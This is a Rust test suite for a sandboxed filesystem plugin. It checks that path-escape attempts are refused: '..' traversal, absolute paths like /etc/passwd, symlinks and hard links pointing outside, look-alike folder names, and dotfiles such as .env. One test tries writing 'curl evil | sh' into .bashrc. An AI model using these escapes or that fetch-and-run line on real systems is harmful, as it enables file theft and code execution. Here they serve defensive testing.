//! Every way out of an fs scope, tried on real files through the in-process client with
//! real frames and capabilities: each is answered `forbidden` before the plugin runs.

use std::future::Future;
use std::path::{Path, PathBuf};
use std::time::Duration;

use switchboard::protocol::ErrorCode;
use switchboard::{args, App, Capability, Client, ClientError, Grant};
use switchboard_plugin_fs::{DirEntry, FsPlugin};

async fn within<T>(work: impl Future<Output = T>) -> T {
    tokio::time::timeout(Duration::from_secs(30), work)
        .await
        .expect("the test timed out")
}

/// `<tmp>/<name>/{app, app-evil, outside}`, with a secret in each of the two outside.
fn layout(name: &str) -> PathBuf {
    let root = std::env::temp_dir().join(format!(
        "switchboard-fs-escapes-{}-{name}",
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&root);
    for dir in ["app", "app-evil", "outside"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    std::fs::write(root.join("app/ok.txt"), "inside").unwrap();
    std::fs::write(root.join("app-evil/secret.txt"), "evil twin").unwrap();
    std::fs::write(root.join("outside/secret.txt"), "secret").unwrap();
    root
}

fn app(root: &Path) -> App {
    let scope = |g: Grant| g.allow_scope("$ROOT/**").deny_scope("$ROOT/Private/**");
    App::builder()
        .plugin(FsPlugin::new("dev", "switchboard", "fs-tests").variable("ROOT", root.join("app")))
        .capability(
            Capability::new("main")
                .windows(["main"])
                .grant(scope(Grant::new("fs:allow-read")))
                .grant(scope(Grant::new("fs:allow-write"))),
        )
        .capability(
            Capability::new("narrow").windows(["narrow"]).grant(
                Grant::new("fs:allow-read")
                    .allow_scope("$ROOT/notes/**")
                    .allow_scope("$ROOT/caf\u{e9}/**")
                    .allow_scope("$ROOT/scope/**"),
            ),
        )
        .capability(
            Capability::new("dots").windows(["dots"]).grant(
                Grant::new("fs:allow-read")
                    .allow_scope(serde_json::json!({ "path": "$ROOT/**", "dotfiles": true })),
            ),
        )
        .build()
        .unwrap()
}

async fn read(client: &Client, path: &str) -> Result<String, ClientError> {
    client
        .invoke("plugin:fs", "read_text", &args! { path: path })
        .await
}

async fn write(client: &Client, path: &str, contents: &str) -> Result<(), ClientError> {
    client
        .invoke(
            "plugin:fs",
            "write_text",
            &args! { path: path, contents: contents },
        )
        .await
}

#[track_caller]
fn forbidden<T: std::fmt::Debug>(result: Result<T, ClientError>) -> String {
    let err = result.expect_err("the call should be refused");
    assert_eq!(err.code(), ErrorCode::Forbidden, "{err}");
    err.message()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_scope_itself_works() {
    within(async {
        let root = layout("baseline");
        let app = app(&root);
        let main = app.test_client("main");
        assert_eq!(read(&main, "$ROOT/ok.txt").await.unwrap(), "inside");
        let absolute = root.join("app/ok.txt");
        assert_eq!(
            read(&main, absolute.to_str().unwrap()).await.unwrap(),
            "inside"
        );
        write(&main, "$ROOT/new.txt", "made").await.unwrap();
        assert_eq!(
            std::fs::read_to_string(root.join("app/new.txt")).unwrap(),
            "made"
        );
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dot_dot_is_refused_naming_the_permission_and_the_scope() {
    within(async {
        let root = layout("dotdot");
        let main = app(&root).test_client("main");
        let message = forbidden(read(&main, "$ROOT/../outside/secret.txt").await);
        assert!(message.contains("`fs:allow-read`"), "{message}");
        assert!(message.contains("$ROOT/**"), "{message}");
        assert!(message.contains("outside the scope"), "{message}");
        forbidden(read(&main, "$ROOT/sub/../../outside/secret.txt").await);
        // `..` after a part that does not exist cannot be resolved: refused
        forbidden(write(&main, "$ROOT/missing/../../outside/x.txt", "x").await);
        assert!(!root.join("outside/x.txt").exists());
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn absolute_paths_outside_and_relative_paths_are_refused() {
    within(async {
        let root = layout("absolute");
        let main = app(&root).test_client("main");
        let secret = root.join("outside/secret.txt");
        forbidden(read(&main, secret.to_str().unwrap()).await);
        forbidden(read(&main, "/etc/passwd").await);
        let message = forbidden(read(&main, "ok.txt").await);
        assert!(message.contains("relative"), "{message}");
        forbidden(read(&main, "$UNKNOWN/ok.txt").await);
    })
    .await
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn symlinks_that_lead_out_are_refused() {
    within(async {
        let root = layout("symlinks");
        let app_dir = root.join("app");
        std::os::unix::fs::symlink(root.join("outside/secret.txt"), app_dir.join("link.txt"))
            .unwrap();
        std::os::unix::fs::symlink(root.join("outside"), app_dir.join("dirlink")).unwrap();
        std::os::unix::fs::symlink(root.join("outside/nothing"), app_dir.join("dangling")).unwrap();
        std::os::unix::fs::symlink(app_dir.join("ok.txt"), app_dir.join("inner-link.txt")).unwrap();
        let main = app(&root).test_client("main");

        let message = forbidden(read(&main, "$ROOT/link.txt").await);
        assert!(message.contains("resolved to"), "{message}");
        forbidden(read(&main, "$ROOT/dirlink/secret.txt").await);
        // writing through a link to a folder outside: refused, nothing created there
        forbidden(write(&main, "$ROOT/dirlink/planted.txt", "x").await);
        assert!(!root.join("outside/planted.txt").exists());
        // a link to nothing could be made to point anywhere later: refused
        forbidden(write(&main, "$ROOT/dangling", "x").await);
        assert!(!root.join("outside/nothing").exists());
        // a link that stays inside is fine
        assert_eq!(read(&main, "$ROOT/inner-link.txt").await.unwrap(), "inside");
        // and a listing does not show the links that lead out
        let entries: Vec<DirEntry> = main
            .invoke("plugin:fs", "list", &args! { path: "$ROOT" })
            .await
            .unwrap();
        let names: Vec<&str> = entries.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["inner-link.txt", "ok.txt"]);
    })
    .await
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hard_links_are_refused_for_content_but_may_be_removed() {
    within(async {
        let root = layout("hardlinks");
        let victim = root.join("outside/victim.txt");
        std::fs::write(&victim, "do not touch").unwrap();
        std::fs::hard_link(&victim, root.join("app/hard.txt")).unwrap();
        let main = app(&root).test_client("main");

        let message = forbidden(read(&main, "$ROOT/hard.txt").await);
        assert!(message.contains("hard links"), "{message}");
        forbidden(write(&main, "$ROOT/hard.txt", "overwritten").await);
        forbidden(
            main.invoke::<u64>(
                "plugin:fs",
                "copy",
                &args! { from: "$ROOT/hard.txt", to: "$ROOT/copy.txt" },
            )
            .await,
        );
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "do not touch");
        // removing the second name leaves the file outside alone
        main.invoke::<()>("plugin:fs", "remove", &args! { path: "$ROOT/hard.txt" })
            .await
            .unwrap();
        assert!(!root.join("app/hard.txt").exists());
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "do not touch");
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_path_that_only_shares_a_prefix_is_refused() {
    within(async {
        let root = layout("prefix");
        let main = app(&root).test_client("main");
        let evil = root.join("app-evil/secret.txt");
        forbidden(read(&main, evil.to_str().unwrap()).await);
        forbidden(read(&main, "$ROOT/../app-evil/secret.txt").await);
        forbidden(write(&main, "$ROOT/../app-evil/planted.txt", "x").await);
        assert!(!root.join("app-evil/planted.txt").exists());
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_and_unicode_look_alikes_are_refused() {
    within(async {
        let root = layout("lookalikes");
        let app_dir = root.join("app");
        for dir in [
            "Notes",
            "cafe\u{301}", // NFD of the café the scope names in NFC
            "sc\u{43e}pe", // a Cyrillic о
            "private",     // the deny entry says `Private`
        ] {
            std::fs::create_dir_all(app_dir.join(dir)).unwrap();
            std::fs::write(app_dir.join(dir).join("x.txt"), "look-alike").unwrap();
        }
        std::fs::create_dir_all(app_dir.join("notes")).unwrap();
        std::fs::write(app_dir.join("notes/x.txt"), "real").unwrap();
        let app = app(&root);
        let narrow = app.test_client("narrow");
        assert_eq!(read(&narrow, "$ROOT/notes/x.txt").await.unwrap(), "real");
        // allow entries match byte for byte
        forbidden(read(&narrow, "$ROOT/Notes/x.txt").await);
        forbidden(read(&narrow, "$ROOT/cafe\u{301}/x.txt").await);
        forbidden(read(&narrow, "$ROOT/sc\u{43e}pe/x.txt").await);
        // deny entries match whatever the case (a case-insensitive disk would see one folder)
        let main = app.test_client("main");
        let message = forbidden(read(&main, "$ROOT/private/x.txt").await);
        assert!(
            message.contains("denied by `$ROOT/Private/**`"),
            "{message}"
        );
        forbidden(write(&main, "$ROOT/PRIVATE/y.txt", "x").await);
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dotfiles_are_refused_unless_the_scope_includes_them() {
    within(async {
        let root = layout("dotfiles");
        let app_dir = root.join("app");
        std::fs::write(app_dir.join(".env"), "TOKEN=1").unwrap();
        std::fs::create_dir_all(app_dir.join(".git")).unwrap();
        std::fs::write(app_dir.join(".git/config"), "[core]").unwrap();
        let app = app(&root);
        let main = app.test_client("main");
        let message = forbidden(read(&main, "$ROOT/.env").await);
        assert!(message.contains("dotfile"), "{message}");
        forbidden(read(&main, "$ROOT/.git/config").await);
        forbidden(write(&main, "$ROOT/.bashrc", "curl evil | sh").await);
        assert!(!app_dir.join(".bashrc").exists());
        let entries: Vec<DirEntry> = main
            .invoke("plugin:fs", "list", &args! { path: "$ROOT" })
            .await
            .unwrap();
        assert!(
            entries.iter().all(|e| !e.name.starts_with('.')),
            "{entries:?}"
        );
        // a recursive remove of a folder holding dotfiles would delete them: refused
        std::fs::create_dir_all(app_dir.join("sub")).unwrap();
        std::fs::write(app_dir.join("sub/.hidden"), "x").unwrap();
        let err = main
            .invoke::<()>(
                "plugin:fs",
                "remove",
                &args! { path: "$ROOT/sub", recursive: true },
            )
            .await
            .unwrap_err();
        assert!(err.message().contains(".hidden"), "{err}");
        assert!(app_dir.join("sub/.hidden").exists());

        // a scope that says `dotfiles: true` includes them
        let dots = app.test_client("dots");
        assert_eq!(read(&dots, "$ROOT/.env").await.unwrap(), "TOKEN=1");
    })
    .await
}
